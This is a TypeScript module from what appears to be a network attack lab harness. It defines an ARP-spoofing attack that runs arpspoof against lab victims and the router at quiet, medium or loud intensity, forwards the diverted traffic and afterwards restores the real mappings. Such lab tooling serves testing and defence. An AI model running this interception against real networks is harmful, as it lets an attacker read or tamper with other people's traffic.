import { type Attack, intensities } from '../contracts.ts';
import { relayed, runAndRestore, whileForwarding } from './interception.ts';

/** It tells everybody the truth again, five times, a second apart. */
const restoreSeconds = 7;

/**
 * arpspoof between victims and the router. Quiet: only what the victim sends is diverted; medium: both ways;
 * loud: more victims.
 */
export const arpSpoofing: Attack = {
  kind: 'arp-spoofing',
  summary: 'a host says it is the router, and passes on what it is sent',
  needs: ['arpspoof'],
  intensities,
  actor: 'guest',
  targets: ['desktop'],
  async run({ lab, intensity, actor, targets, seconds, signal }) {
    const more = intensity === 'loud' ? ['laptop', 'phone'].filter(name => lab.has(name)) : [];
    const victims = [...new Set([...targets, ...more.map(name => lab.host(name))])];
    const words = [
      ...['-i', 'eth0', '-c', 'own'],
      ...victims.flatMap(({ address }) => ['-t', address]),
      ...(intensity === 'quiet' ? [] : ['-r']),
      lab.host('router').address,
    ];
    const limits = { seconds: Math.max(1, seconds - restoreSeconds), restoreSeconds, signal };
    await whileForwarding(actor, () => runAndRestore(actor, 'arpspoof', words, limits));
    return { tool: 'arpspoof', arguments: words.join(' '), claims: relayed(actor, victims) };
  },
};
